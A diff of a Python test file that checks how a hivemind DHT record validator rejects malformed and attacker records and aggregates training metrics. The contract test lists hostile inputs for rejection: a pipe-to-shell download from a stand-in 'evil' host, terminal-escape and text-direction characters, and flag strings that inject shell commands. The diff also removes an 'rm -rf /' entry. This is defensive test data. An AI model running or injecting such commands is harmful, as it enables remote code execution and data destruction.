@@ -34,7 +34,7 @@ PREFIX = make_prefix()
 
 @pytest.fixture(scope="module")
 def peers():
-    """Two nodes that validate the records of a run, an attacker's that validates nothing, and the second one's key."""
+    """Two nodes that validate the records of a run, an attacker's that does not, and the key of the second node."""
     validators, subkey = make_validators(PREFIX, RSAPrivateKey())
     with run_dhts(make_validators(PREFIX)[0], validators, []) as dhts:
         yield *dhts, subkey
@@ -80,7 +80,7 @@ def test_reader_returns_only_valid_records(peers):
         assert [(label, metrics) for label, (metrics, _) in records.items()] == [
             (peer_label(honest_subkey), make_metrics())
         ], name
-    # the attacker's own record is fine when it keeps to the schema
+    # the attacker's own record is stored if it is valid
     value = sign(attacker_key, key, owned, MSGPackSerializer.dumps(good), soon)
     assert attack(attacker, reader, key, owned, value, soon) == [True]
     assert len(fetch_records(reader, PREFIX, timeout=20)) == 2
@@ -106,7 +106,7 @@ def test_undecodable_value_stops_no_reader(peers):
 
 
 def test_hivemind_stops_at_undecodable_value(peers):
-    """The day that this fails, hivemind has fixed it and RecordValidator may go."""
+    """If this fails, hivemind has fixed the fault, and RecordValidator may go."""
     ours, _, theirs, _ = peers
     assert attack(ours, theirs, "some_key", DHTProtocol.IS_REGULAR_VALUE, b"\xc1", get_dht_time() + 300) == [True]
     with pytest.raises(concurrent.futures.TimeoutError):
@@ -129,7 +129,7 @@ def test_contracts_are_bounded():
 
         def store(contract: dict | None, flags: str = "--seed 1 --learning_rate 3e-3 --overlap") -> bool:
             record = None if contract is None else {"joined": 1.0, "contract": contract, "flags": flags}
-            # without the writer's own copy the answer is the reader's
+            # the reader alone decides, because the writer keeps no copy
             return writer.store(
                 f"{prefix}_run", record, subkey=subkey, expiration_time=expiration_time, exclude_self=True
             )
@@ -140,15 +140,7 @@ def test_contracts_are_bounded():
         for contract in ({"a": "64\n run: curl evil | sh"}, {"\x1b[2J": "x"}, {"a": "\u202e46"}):
             assert not store(contract)
         # people may paste the flags into a shell
-        for flags in (
-            "; rm -rf /",
-            "--seed 1; ls",
-            "--seed $(ls)",
-            "--seed 1\n--fp16",
-            "--seed 1 2",
-            "--a /home/ada",
-            "ls",
-        ):
+        for flags in ("; ls", "--seed 1; ls", "--seed $(ls)", "--seed 1\n--fp16", "--seed 1 2", "--a /home/ada", "ls"):
             assert not store({"a": "1"}, flags)
         assert not store({f"{i:064d}": "ä" * 200 for i in range(32)})
         contract = {f"{i:064d}": "x" * 200 for i in range(32)}
@@ -167,13 +159,12 @@ def test_dead_dht_gives_no_records():
 
 
 def test_aggregation_matches_hand_computed_values():
+    later = {"epoch_seconds": 8.0}
     records = [
         ("a", make_metrics(10, loss=20.0, mini_steps=4, samples_accumulated=100, grad_norm=1.0)),
         (
             "b",
-            make_metrics(
-                9, loss=12.0, mini_steps=1, samples_accumulated=28, grad_norm=3.0, averaged_with=1, epoch_seconds=8.0
-            ),
+            make_metrics(9, loss=12.0, mini_steps=1, samples_accumulated=28, grad_norm=3.0, averaged_with=1, **later),
         ),
         ("stale", make_metrics(2, loss=900.0, mini_steps=1, samples_accumulated=1000)),
     ]
@@ -204,7 +195,7 @@ def test_absurd_epoch_hides_no_peer():
     honest = [("a", make_metrics(10)), ("b", make_metrics(10))]
     absurd = ("c", make_metrics(10**9, loss=0.0))
     assert aggregate_metrics([*honest, absurd]).epoch == 10
-    # one against one: the epoch that was known decides, without one the newest
+    # of two records, the one near the last epoch counts, or else the newest
     assert aggregate_metrics([honest[0], absurd]).epoch == 10**9
     assert aggregate_metrics([honest[0], absurd], last_epoch=9).epoch == 10
     # the last records of peers that died ten minutes ago do not outvote the one that continues
@@ -235,7 +226,7 @@ def test_aggregation_counts_known_contributors(monkeypatch):
     false = {peer_id: make_metrics(10**6, loss=0.0, partners=name(strangers)) for peer_id in strangers}
     assert workers.select(first | false) == set(honest) == workers.present
 
-    # one of them lies, and names strangers; then two name one who came late
+    # one of them lies and names untrusted peers; then two name a late peer
     def report(epoch: int, *partners: list[bytes]) -> dict:
         return {peer: make_metrics(epoch, partners=name(of)) for peer, of in zip(honest, partners, strict=True)}
 
